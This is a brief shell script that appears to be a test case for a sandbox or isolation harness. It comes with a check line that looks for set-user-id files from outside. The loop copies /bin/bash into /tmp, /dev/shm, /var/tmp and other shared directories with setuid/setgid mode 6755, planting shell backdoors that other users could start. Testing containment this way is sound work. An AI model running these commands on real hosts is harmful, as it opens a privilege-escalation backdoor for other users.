# Leave a program with a set-user-id bit where another user of the host may start it.
# outside: [ -z "$(find "$STATE" -perm /6000 -name for-the-host 2>/dev/null)" ] && ! stranger ls -d "$STATE/machines/."
for dir in . /tmp /var/tmp /home/runner /opt/hostedtoolcache /dev/shm; do
    cp /bin/bash "$dir/for-the-host" && chmod 6755 "$dir/for-the-host"
done
true
